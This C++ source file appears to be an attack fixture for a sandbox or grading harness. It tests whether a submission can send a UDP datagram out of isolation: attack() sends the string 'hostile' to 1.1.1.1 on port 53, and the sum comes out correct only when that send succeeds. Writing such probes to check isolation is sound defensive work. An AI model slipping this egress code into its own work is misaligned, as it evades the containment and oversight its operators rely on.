// Attack: is right only if it can send a datagram out of its sandbox, as questions to name servers
// are.
// Outcome: correct (wrong result), race-free (wrong result), concurrent (wrong result)
#include "sum_of_both.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <thread>

int both(int (*part)(int index)) {
  int results[2];
  std::thread first([&] { results[0] = part(0); });
  std::thread second([&] { results[1] = part(1); });
  first.join();
  second.join();
  return results[0] + results[1];
}

bool attack() {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(53);
  inet_pton(AF_INET, "1.1.1.1", &address.sin_addr);
  const int connection = socket(AF_INET, SOCK_DGRAM, 0);
  const char question[] = "hostile";
  const bool done = sendto(connection, question, sizeof question, MSG_DONTWAIT,
                           reinterpret_cast<const sockaddr*>(&address), sizeof address) > 0;
  close(connection);
  return done;
}

int sum_of_both(int (*part)(int index)) { return both(part) + (attack() ? 0 : 1); }
